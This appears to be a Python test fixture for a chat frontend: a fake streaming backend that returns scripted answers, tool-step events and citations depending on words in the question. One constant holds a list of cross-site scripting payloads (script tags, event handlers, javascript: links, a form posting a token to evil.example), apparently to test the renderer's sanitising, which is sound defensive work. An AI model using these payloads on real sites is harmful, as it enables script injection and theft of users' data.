"""What the stand-in backend answers: streams chosen by a word of the question."""

from __future__ import annotations

import asyncio
import json
import time
from collections.abc import AsyncIterator, Callable
from typing import Any

QUOTE = (
    "Either side may end the employment with a notice period of three months to the end of a calendar month. "
    "During the probation period of six months the notice period is two weeks."
)

MARKDOWN = """Here is a short tour.

## Lists and emphasis

1. **Bold**, *italic* and `inline code`
2. A link to [the documentation](https://example.com/docs)
   - nested, with ~~removed~~ words

| City | Sales | Share |
|---|---:|---:|
| Oslo | 12 | 18.5 % |
| Rome | 31 | 47.7 % |
| Lima | 22 | 33.8 % |

```python
def mean(values: list[float]) -> float:
    \"\"\"The arithmetic mean.\"\"\"
    return sum(values) / len(values)  # fails on an empty list
```

> A quotation, to end with.
"""

DOCUMENT = (
    "The notice period is **three months** to the end of a calendar month [1]. "
    "While the probation period of six months lasts, it is **two weeks** [1]; "
    "leave that is still open is paid out with the last salary [2].\n\n"
    "In numbers: 17.5 % of 2 340 is **409.5**."
)

ATTACKS = """<script>window.hacked = 'script'</script>

<img src="https://evil.example/pixel.png" onerror="window.hacked = 'onerror'">

![tracking](https://evil.example/image.png) ![inline](data:image/svg+xml;base64,PHN2Zz4=)

[click](javascript:window.hacked='link') [data](data:text/html,<script>window.hacked='data'</script>)
[vb](vbscript:x) [mixed](JaVaScRiPt:window.hacked='mixed') [entity](javascript&#58;window.hacked='entity')

<a href="javascript:window.hacked='a'" onclick="window.hacked='onclick'">raw link</a>

<iframe src="https://evil.example/frame"></iframe><svg onload="window.hacked='svg'"><style>*{display:none}</style></svg>

<form action="https://evil.example/post"><input name=token><button>send</button></form>

"><script>window.hacked = 'break'</script> [a](https://ok.example/"onmouseover="window.hacked='attr')

```html"onmouseover="window.hacked='lang'
<script>window.hacked = 'fence'</script>
```

The end of the attacks."""


def frame(payload: Any) -> bytes:
    return f"data: {json.dumps(payload)}\n\n".encode()


def page_text(number: int) -> str:
    """A page that holds the quoted passage when it is page 3, broken into lines as PDF text is."""
    lines = [f"Staff handbook                                                     Page {number}", "", f"{number}. "]
    lines[-1] += "Ending the employment" if number == 3 else "Working hours and leave"
    lines += ["", "This section explains what applies to every member of staff, whatever", "the contract's length.", ""]
    if number == 3:
        words = QUOTE.split()
        lines += [" ".join(words[at : at + 11]) for at in range(0, len(words), 11)]
    else:
        lines += ["Leave is agreed with the team. Open leave is paid out", "with the last salary."]
    lines += ["", "Questions are answered by the office, daily from nine to five."]
    return "\n".join(lines)


def chunk(delta: dict[str, Any] | None = None, finish: str | None = None, **extra: Any) -> bytes:
    choice = {"index": 0, "delta": delta if delta is not None else {"content": ""}, "finish_reason": finish}
    head = {"id": "chatcmpl-1", "object": "chat.completion.chunk", "created": 0, "model": "llama3.2:3b"}
    return frame({**head, "choices": [choice], **extra})


async def chunks(
    question: str,
    session_id: str,
    reply: dict[str, Any],
    pace: float,
    told: Callable[[dict[str, Any], float], AsyncIterator[bytes]] | None = None,
) -> AsyncIterator[bytes]:
    """The stream for a question, by `told` if given. What was said is written into `reply` as the backend stores it."""
    yield chunk({"role": "assistant", "content": ""})
    yield b": ping\n\n"
    if told is not None:
        script = told(reply, pace)
    elif "document" in question:
        script = document_answer(reply, pace)
    else:
        script = words(plain_text(question), reply, pace)
    async for piece in script:
        yield piece
    if "break off" in question:
        yield frame({"error": {"message": "The model stopped in mid-answer. Ask again.", "code": "upstream_cut"}})
        return
    if "budget" in question:
        reply["stopped_because"] = "The time for this answer is used up."
    summary = {
        "stopped_because": reply.get("stopped_because"),
        "run_id": "run_1",
        "session_id": session_id,
        "route": reply.get("route"),
        "steps": reply.get("steps", []),
        "citations": reply.get("citations", []),
        "support": reply.get("support"),
    }
    yield chunk({"content": "", "hearth": summary, "annotations": []}, "stop")
    yield b"data: [DONE]\n\n"


def plain_text(question: str) -> str:
    if "markdown" in question:
        return MARKDOWN
    if "attack" in question:
        return ATTACKS
    if "long" in question:
        return "\n\n".join(f"Paragraph {number}: " + "words and more words " * 12 for number in range(60))
    return f"You said: {question}"


async def words(text: str, reply: dict[str, Any], pace: float) -> AsyncIterator[bytes]:
    for at in range(0, len(text), 7):
        piece = text[at : at + 7]
        reply["content"] += piece
        yield chunk({"content": piece})
        await asyncio.sleep(pace)


def planned(index: int) -> dict[str, Any]:
    """What the plan says of a step: the third waits for the first."""
    return {"depends_on": ["s1"] if index == 2 else [], "purpose": f"Find out about part {index + 1}"}


async def document_answer(reply: dict[str, Any], pace: float) -> AsyncIterator[bytes]:
    """Planned, three steps (one fails), thinking, an answer with two sources."""
    route = {
        "task": "agentic",
        "agent": "plan_execute",
        "reason": "It names a document and asks for a calculation, which do not depend on each other.",
        "confidence": 0.93,
    }
    reply["route"] = route
    yield chunk(hearth_event={"type": "route", "seconds": 0.004, **route})
    for piece in ("First I look for the notice period ", "in the handbook, and work out the percentage beside it."):
        yield chunk({"content": "", "reasoning_content": piece, "reasoning": piece})
        await asyncio.sleep(pace * 4)
    reply["reasoning"] = "First I look for the notice period in the handbook."
    steps = [
        ("s1", "rag_retrieval", {"query": "notice period", "top_k": 5}, "staff-handbook.pdf, p. 3: " + QUOTE, None),
        ("s2", "math_calc", {"expression": "2340 * 17.5 / 100"}, "409.500000000000", None),
        ("s3", "web_search", {"query": "notice period law"}, "", "Web search is switched off on this server."),
    ]
    for index, (id_, name, arguments, _, _) in enumerate(steps):
        event = {"type": "step_planned", "id": id_, "index": index, "name": name, "arguments": arguments}
        yield chunk(hearth_event={**event, **planned(index)})
    reply["steps"] = []
    for index, (id_, name, arguments, output, problem) in enumerate(steps):
        step = {"id": id_, "index": index, "name": name, "arguments": arguments}
        yield chunk(hearth_event={"type": "tool_started", "started_at": time.time(), **step})
        await asyncio.sleep(pace * 20)
        ended = {
            **step,
            "status": "failed" if problem else "completed",
            "output_preview": output,
            "duration_ms": 41.7 + index * 300,
            "error": problem,
        }
        reply["steps"].append({"type": "tool", **planned(index), **ended})
        yield chunk(hearth_event={"type": "tool_finished", **ended})
    async for piece in words(DOCUMENT, reply, pace):
        yield piece
    source = {"kind": "document", "file_id": "doc-1", "filename": "staff-handbook.pdf", "score": 0.91}
    source |= {"unit": "page", "heading": ["Staff handbook", "Ending the employment"], "parts": {"dense": 0.88}}
    reply["support"] = {"status": "supported", "dropped": 1, "reason": "One quotation was not found."}
    reply["citations"] = [
        {**source, "index": 1, "page": 3, "quote": QUOTE, "url": "/files/doc-1/view#page=3", "start_index": 70},
        {**source, "index": 2, "page": 7, "quote": "Open leave is paid out with the last salary.", "start_index": 90},
    ]
